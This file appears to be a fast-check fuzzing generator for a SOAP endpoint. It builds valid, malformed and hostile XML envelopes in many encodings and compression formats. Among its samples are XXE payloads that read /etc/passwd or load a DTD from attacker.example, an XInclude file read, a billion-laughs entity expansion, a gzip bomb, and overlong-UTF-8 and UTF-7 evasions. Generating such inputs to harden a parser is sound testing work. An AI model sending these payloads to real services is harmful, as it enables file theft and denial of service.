/** Envelopes: nearly right, oddly written, or a bomb; in whatever encoding. */
const fc = require('fast-check');
const { gzipSync, deflateSync, brotliCompressSync } = require('node:zlib');
const { ENDPOINT, framed, changed, changes } = require('./message');
const { call, other, text } = require('./texts');

const NAMESPACE = 'http://tempuri.org/';
const E11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const E12 = 'http://www.w3.org/2003/05/soap-envelope';

/** @param {string} raw */
const escaped = (raw) => raw.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** What stands before the root element. */
const prolog = fc.oneof(
  { weight: 20, arbitrary: fc.constant('') },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '<?xml version="1.0" encoding="utf-8"?>',
      '<?xml version="1.1"?>',
      '<?xml version="1.0" encoding="utf-16"?>',
      '<?xml version="1.0" encoding="utf-7" standalone="no"?>',
      `<?xml version="1.0"${' '.repeat(2_000)}?>`,
      ' <?xml version="1.0"?>',
      '<?xml encoding="a"?>',
      '<!-- a --><?a b?>',
    ),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '<!DOCTYPE s:Envelope>',
      '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
      `<!DOCTYPE a [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`,
      '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://attacker.example/">%b;]>',
    ),
  },
);

/** What an envelope has no need of, well-formed or not. */
const junk = fc.oneof(
  { weight: 3, arbitrary: text },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
      '&b;&a12;',
      '<!-- comment -->',
      '<![CDATA[<a>]]>',
      '<?php echo 1 ?>',
      '<a xmlns=""/>',
      '<a:b/>',
      '<a xmlns:a="a" xmlns:b="a" a:c="" b:c=""/>',
      '<a xml:space="preserve" xml:lang="x" xmlns:xml="y"/>',
      '<month xsi:nil="true" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"/>',
      '<month href="#1"/><month id="1">5</month>',
    ),
  },
  {
    weight: 2,
    arbitrary: fc
      .record({ depth: fc.constantFrom(2, 100, 255, 256, 257, 3_000), closes: fc.boolean() })
      .map(({ depth, closes }) => '<a>'.repeat(depth) + (closes ? '</a>'.repeat(depth) : '')),
  },
  {
    weight: 2,
    arbitrary: fc
      .record({ count: fc.constantFrom(2, 255, 257, 2_000), prefix: fc.constantFrom('', 'xmlns:', 's:') })
      .map(
        ({ count, prefix }) =>
          `<a ${Array.from({ length: count }, (_, at) => `${prefix}a${at}="u"`).join(' ')}/>`,
      ),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(300, 20_000)
      .map((length) => `<${'n'.repeat(length)} ${'m'.repeat(length)}="${'v'.repeat(length)}"/>`),
  },
);

const some = (/** @type {fc.Arbitrary<string>} */ one) =>
  fc.oneof({ weight: 12, arbitrary: fc.constant('') }, { weight: 1, arbitrary: one });

/** What may go wrong around a parameter's element and in it. */
const manner = fc.record({
  isEscaped: fc.oneof(
    { weight: 3, arbitrary: fc.constant(true) },
    { weight: 1, arbitrary: fc.constant(false) },
  ),
  attribute: some(fc.constantFrom(' a="b"', ' xmlns=""', ' s:encodingStyle=""', ' x=1')),
  behind: some(junk),
});

const header = some(
  fc.constantFrom(
    '<s:Header/>',
    '<s:Header><a xmlns="urn:a" s:mustUnderstand="1"/></s:Header>',
    '<s:Header><a s:mustUnderstand="2" s:actor="http://a"/></s:Header>',
    '<s:Header>text</s:Header>',
    '<s:Header/><s:Header/>',
    `<s:Header>${'<a/>'.repeat(2_000)}</s:Header>`,
  ),
);

const document = fc
  .record({
    prolog,
    envelope: fc.oneof({ weight: 12, arbitrary: fc.constantFrom(E11, E12) }, { weight: 1, arbitrary: text }),
    header,
    namespace: fc.oneof({ weight: 12, arbitrary: fc.constant(NAMESPACE) }, { weight: 1, arbitrary: text }),
    manners: fc.array(manner, { minLength: 2, maxLength: 2 }),
    before: some(junk),
    behind: some(junk),
  })
  .map(
    (one) =>
      (/** @type {string} */ operation, /** @type {readonly (readonly [string, string])[]} */ pairs) => {
        const elements = pairs.map(([name, value], at) => {
          const { isEscaped = true, attribute = '', behind = '' } = one.manners[at] ?? {};
          return `<${name}${attribute}>${isEscaped ? escaped(value) : value}</${name}>${behind}`;
        });
        const wrapper = `<${operation} xmlns="${escaped(one.namespace)}">${elements.join('')}</${operation}>`;
        return `${one.prolog}<s:Envelope xmlns:s="${escaped(one.envelope)}">${one.header}<s:Body>${one.before}${wrapper}</s:Body></s:Envelope>${one.behind}`;
      },
  );

/** UTF-32 in the byte order of `write`. */
const utf32 = (/** @type {string} */ raw, /** @type {'writeUInt32LE' | 'writeUInt32BE'} */ write) => {
  const points = Array.from(raw, (one) => one.codePointAt(0) ?? 0);
  const bytes = Buffer.alloc(4 * points.length);
  for (const [at, point] of points.entries()) bytes[write](point, 4 * at);
  return bytes;
};
const latin1 = (/** @type {string} */ raw) => Buffer.from(raw, 'latin1');
const BOMBED = Buffer.alloc(2_000_000, ' ');

/** @type {Readonly<Record<string, (raw: string) => Buffer>>} */
const ENCODINGS = {
  'utf-8': (raw) => Buffer.from(raw),
  'a byte order mark': (raw) => Buffer.from(`\ufeff${raw}`),
  'utf-16le': (raw) => Buffer.from(raw, 'utf16le'),
  'utf-16be': (raw) => Buffer.from(`\ufeff${raw}`, 'utf16le').swap16(),
  'utf-32le': (raw) => utf32(raw, 'writeUInt32LE'),
  'utf-32be': (raw) => utf32(`\ufeff${raw}`, 'writeUInt32BE'),
  'utf-7': (raw) => latin1(raw.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')),
  'windows-1252': latin1,
  'overlong utf-8': (raw) => latin1(raw.replaceAll('<', '\xc0\xbc').replaceAll('m', '\xe0\x81\xad')),
  'surrogates in utf-8': (raw) => latin1(raw.replaceAll('5', '\xed\xa0\x80')),
  gzip: (raw) => gzipSync(raw),
  deflate: (raw) => deflateSync(raw),
  br: (raw) => brotliCompressSync(raw),
  'a bomb': () => gzipSync(BOMBED, { level: 1 }),
};

const charset = fc.constantFrom(
  ...Array(9).fill('utf-8'),
  'UTF8',
  'utf-7',
  'utf-16',
  'utf-32',
  'iso-8859-1',
  'gb18030',
  'nope',
  '"',
  'x"y',
  '',
);

/** The headers, for a call of an operation. */
const headersOf = fc
  .record({
    media: fc.constantFrom(
      'text/xml',
      'text/xml',
      'text/xml',
      'application/soap+xml',
      'application/soap+xml',
      'TEXT/XML',
    ),
    otherMedia: some(
      fc.constantFrom('application/xml', 'text/plain', 'multipart/related', 'application/json'),
    ),
    charset,
    base: fc.oneof({ weight: 12, arbitrary: fc.constant(NAMESPACE) }, { weight: 1, arbitrary: text }),
    otherOperation: fc.oneof(
      { weight: 12, arbitrary: fc.constant(undefined) },
      { weight: 1, arbitrary: other },
    ),
    quote: fc.constantFrom('"', '"', '"', '', "'"),
    hasAction: fc.boolean(),
    isInType: fc.boolean(),
    encoding: some(fc.constantFrom('gzip', 'br', 'deflate', 'identity', 'gzip, gzip', 'nope')),
  })
  .map((one) => (/** @type {string} */ operation) => {
    const action = one.quote + one.base + (one.otherOperation ?? operation) + one.quote;
    const inType = one.hasAction && one.isInType ? `; action=${action}` : '';
    return /** @type {[string, string][]} */ ([
      ['Content-Type', `${one.otherMedia || one.media}; charset=${one.charset}${inType}`],
      ...(one.hasAction && !one.isInType ? [['SOAPAction', action]] : []),
      ...(one.encoding === '' ? [] : [['Content-Encoding', one.encoding]]),
    ]);
  });

/** SOAP calls whose envelope is written by the grammar, some of them damaged. */
const envelopes = fc
  .record({
    call,
    headersOf,
    document,
    encoding: fc.oneof(
      { weight: 5, arbitrary: fc.constant('utf-8') },
      { weight: 2, arbitrary: fc.constantFrom(...Object.keys(ENCODINGS)) },
    ),
    damage: fc.oneof({ weight: 2, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: changes }),
  })
  .map(({ call: { operation, pairs }, headersOf, document, encoding, damage }) => {
    const bytes = (ENCODINGS[encoding] ?? Buffer.from)(document(operation, pairs));
    const body = damage === undefined ? bytes : changed(bytes, damage);
    return framed({
      kind: 'envelope',
      method: 'POST',
      target: ENDPOINT,
      headers: headersOf(operation),
      body,
    });
  });

module.exports = { envelopes };
